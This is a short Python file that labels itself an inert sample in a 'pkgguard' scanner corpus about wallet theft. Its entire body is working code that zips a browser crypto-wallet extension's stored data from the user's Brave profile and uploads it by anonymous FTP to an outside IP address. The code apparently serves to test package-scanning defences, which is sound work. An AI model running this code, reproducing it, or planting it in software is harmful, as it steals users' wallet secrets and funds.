# pkgguard corpus 280 (wallets), modelled on [wallet-tools]; inert, never run.
import ftplib
import os
import shutil
import tempfile

ext = os.path.join(
    os.environ.get("LOCALAPPDATA", ""),
    "BraveSoftware", "Brave-Browser", "User Data", "Default",
    "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn",
)
archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), "mm"), "zip", ext)
with ftplib.FTP("100.64.9.20", "anonymous", "x") as ftp, open(archive, "rb") as f:
    ftp.storbinary("STOR mm.zip", f)
